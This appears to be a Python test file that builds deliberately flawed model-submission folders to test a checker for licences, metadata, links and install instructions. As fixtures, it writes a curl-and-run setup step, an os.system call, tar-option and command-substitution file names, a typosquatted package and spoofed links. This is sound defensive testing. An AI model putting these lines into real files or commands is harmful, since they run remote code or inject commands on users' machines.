"""Broken in what readers are allowed or told to do: notices, data, pages with commands, code of others, names that look alike."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path

from case import Break, broken


def _metadata(pattern: str, put: str) -> Break:
    """The readme is made again, as an author would."""

    def breaks(folder: Path) -> None:
        from good import write_readme

        file = folder / "metadata.toml"
        text, count = re.subn(pattern, put, file.read_text(encoding="utf-8"), count=1, flags=re.MULTILINE)
        assert count, f"metadata.toml has nothing like {pattern!r}"
        file.write_text(text, encoding="utf-8")
        write_readme(folder)

    return breaks


def _too_much(pattern: str, put: str) -> Break:
    """No readme can be made of it."""

    def breaks(folder: Path) -> None:
        file = folder / "metadata.toml"
        file.write_text(re.sub(pattern, put, file.read_text(encoding="utf-8"), flags=re.MULTILINE), encoding="utf-8")

    return breaks


def _wrote(name: str, text: str) -> Callable[[Path], None]:
    return lambda folder: (folder / name).write_text(text, encoding="utf-8") and None


def _in_readme(text: str) -> Break:
    def breaks(folder: Path) -> None:
        with (folder / "README.md").open("a", encoding="utf-8") as readme:
            readme.write(text)

    return breaks


PERSON = "needs a person"
for name, what, check, answer, breaks in (
    ("notice-reserves-all", "a notice that reserves all rights", "artifacts.license-file", PERSON,
     _wrote("NOTICE", "Copyright 2026 Example Ltd. All rights reserved.\n")),
    ("data-not-for-trade", "trained on data that may not be used commercially", "artifacts.license", PERSON,
     _metadata('^license = "CC-BY-4.0"$', 'license = "CC-BY-NC-4.0"')),
    ("description-for-research", "a description that allows research only", "artifacts.license", PERSON,
     _metadata("^description = .*$", 'description = "Reads a digit. For non-commercial research."')),
    ("contributor-looks-alike", "a contributor whose name has a Cyrillic letter", "artifacts.metadata", "decline",
     _metadata("^contributors = .*$", 'contributors = ["Th\u0435 authors of Assay"]')),
    ("metric-outside", "a metric that is reported outside of the submission", "artifacts.metadata", "decline",
     _metadata("^read = .*$", 'read = "file:../metrics.json#top1"')),
    ("page-that-installs", "a text that tells to install a package that is nearly one", "artifacts.requirements", "decline",
     _wrote("INSTALL.txt", "Install\n\n    pip install onnxruntime nunpy\n")),
    ("too-many-tags", "500 tags", "artifacts.metadata", "decline",
     _too_much("^tags = .*$", "tags = [" + ", ".join(f'"digits{number}"' for number in range(500)) + "]")),
    ("description-without-end", "a description of 100,000 letters", "artifacts.metadata", "decline",
     _too_much("^description = .*$", f'description = "{"Reads a digit. " * 7000}"')),
    ("readme-runs-download", "a readme that keeps what an address gives, and runs it", "artifacts.requirements", "decline",
     _in_readme("\n## Setup\n\n```sh\ncurl -o setup.sh https://example.com/s\nsh setup.sh\n```\n")),
    ("words-that-install", "the same in a sentence", "artifacts.requirements", PERSON,
     _wrote("notes.txt", "First pip install left-pad.\n")),
    ("readme-loads-code", "a readme that loads code of another repository", "artifacts.requirements", "decline",
     _in_readme("\n## Use\n\n```python\nimport torch\nnet = torch.hub.load('someone/net', 'net')\n```\n")),
    ("readme-starts-process", "a readme whose example starts a process", "artifacts.requirements", PERSON,
     _in_readme("\n## Use\n\n```python\nimport os\nos.system('id')\n```\n")),
):  # fmt: skip
    broken(name, what, check, answer=answer, near=True)(breaks)

for name, what, check, answer, breaks in (
    ("one-notebook-for-two", "one notebook for inference and validation", "artifacts.metadata", "decline",
     _metadata("^opset = ", 'inference = "validation.ipynb"\nopset = ')),
    ("version-without-a-next", "a version above which no other can be", "artifacts.metadata", "decline",
     _metadata("^version = .*$", 'version = "999999999.999999999.999999999"')),
    ("title-of-two-lines", "a title that brings a section of its own", "artifacts.metadata", "decline",
     _metadata("^title = .*$", r'title = "Small digits\\n\\n## License\\n\\nMIT"')),
    ("file-that-is-an-option", "a file whose name is an option of tar", "files.names", "decline",
     _wrote("--checkpoint-action=exec=sh x.txt", "x\n")),
    ("file-that-is-a-command", "a file whose name is a command of a shell", "files.names", "decline", _wrote("$(id).txt", "x\n")),
    ("link-that-looks-alike", "a link to a host with a Cyrillic letter", "artifacts.links", "decline",
     _in_readme("\n## More\n\n[paper](https://\u0430rxiv.org/abs/1)\n")),
    ("link-with-another-host", "a link whose host stands behind another", "artifacts.links", "decline",
     _in_readme("\n## More\n\n[paper](https://arxiv.org@evil.example/abs/1)\n")),
    ("reference-of-ones-own", "a reference on the author's own machine", "artifacts.links", PERSON,
     _metadata("^references = .*$", 'references = ["http://localhost:8000/paper.pdf"]')),
    ("citation-of-another-license", "CITATION.cff says another licence", "artifacts.license-file", "decline",
     _wrote("CITATION.cff", "cff-version: 1.2.0\ntitle: Small digits\nmessage: cite it\nlicense: GPL-3.0-only\n")),
    ("license-behind-another", "a licence with another one behind it", "artifacts.license-file", PERSON,
     _wrote("LICENSE", "Apache License\nVersion 2.0, January 2004\n\nGNU AFFERO GENERAL PUBLIC LICENSE\nVersion 3\n")),
):  # fmt: skip
    broken(name, what, check, answer=answer, near=True)(breaks)


@broken("license-in-its-folder", "LICENSES/ holds the GPL", "artifacts.license-file", near=True)
def _(folder: Path) -> None:
    (folder / "LICENSES").mkdir()
    (folder / "LICENSES" / "GPL-3.0-only.txt").write_text("GNU GENERAL PUBLIC LICENSE\nVersion 3\n", encoding="utf-8")
